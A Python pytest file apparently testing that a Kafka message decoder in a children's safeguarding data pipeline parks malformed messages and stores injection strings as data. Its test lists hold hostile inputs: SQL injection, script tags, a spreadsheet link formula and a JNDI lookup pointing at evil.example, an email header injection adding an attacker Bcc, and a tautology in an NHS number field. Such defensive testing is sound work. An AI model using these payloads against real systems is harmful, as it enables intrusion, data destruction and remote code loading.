"""Hostile input: malformed messages are parked with a reason; injection strings are stored as data only."""

from __future__ import annotations

import json

import pytest
from sqlmodel import Session, select

from schemas.examples import example
from sinks.models import DeliveryRecord
from streams.kafka.codec import Accepted, DeadLetter, Origin, decode
from tests.unit.helpers import contents, run

ORIGIN = Origin("safeguarding.ppn", 0, 0)
LIMIT = 1_048_576
INJECTIONS = [
    "'; DROP TABLE delivery; --",
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    "=HYPERLINK(\"http://evil.example\",\"click\")",
    "Robert\r\nBcc: attacker@evil.example",
    "\u202eevil\u202c",
    "${jndi:ldap://evil.example/a}",
]
MALFORMED = [
    b"", b"null", b"[]", b"42", b'"text"', b"{", b'{"event_type": 5}', b"\xc3\x28", b"\x00" * 64,
    b'{"event_type": "ppn.submitted", "event_id": "not-a-uuid"}',
    json.dumps({"a": "x" * 2_000_000}).encode(),
    b"[" * 100_000,
    json.dumps(dict(example("ppn.submitted"), persons=[example("ppn.submitted")["persons"][0]] * 500)).encode(),
    json.dumps(dict(example("ppn.submitted"), summary="x" * 30_000)).encode(),
    json.dumps(dict(example("ppn.submitted"), occurred_at="2999-01-01T00:00:00+00:00")).encode(),
    json.dumps(dict(example("ppn.submitted"), occurred_at=12345)).encode(),
]


class TestMalformed:
    @pytest.mark.parametrize("raw", MALFORMED, ids=range(len(MALFORMED)))
    def test_every_malformed_message_is_parked_with_a_reason(self, raw):
        """Each malformed input gives a dead letter with a non-empty reason, never an exception."""
        outcome = decode(raw, ORIGIN, max_bytes=LIMIT)
        assert isinstance(outcome, DeadLetter) and outcome.reason


class TestInjection:
    @pytest.mark.parametrize("payload", INJECTIONS)
    def test_injection_strings_are_data_not_commands(self, engine, policy, sinks, settings, payload, services):
        """Injection strings in free-text fields are either refused or stored verbatim; every table survives."""
        event = example("ppn.submitted", summary=payload)
        event["persons"][0]["family_name"] = payload
        event["officer"]["station"] = payload
        outcome = decode(json.dumps(event).encode(), ORIGIN, max_bytes=LIMIT)
        if any(ord(c) < 32 for c in payload):  # a line break in a name or a station: refused (tests/security)
            assert isinstance(outcome, DeadLetter) and "control character" in outcome.reason
            return
        assert isinstance(outcome, Accepted)
        run(services, [event])
        stored = contents(engine, "childrens_services")[0]
        assert stored["summary"] == payload and stored["persons"][0]["family_name"] == payload
        with Session(engine) as session:
            assert len(session.exec(select(DeliveryRecord)).all()) == 2  # the delivery table is still there

    def test_injection_in_an_identifier_is_refused_where_the_format_is_known(self):
        """Fields with a known format (NHS number, postcode, UPN) refuse injection outright."""
        for field, value in (("nhs_number", "943' OR '1'='1"), ("upn", "<script>"),):
            event = example("ppn.submitted")
            event["persons"][0][field] = value
            assert isinstance(decode(json.dumps(event).encode(), ORIGIN, max_bytes=LIMIT), DeadLetter)
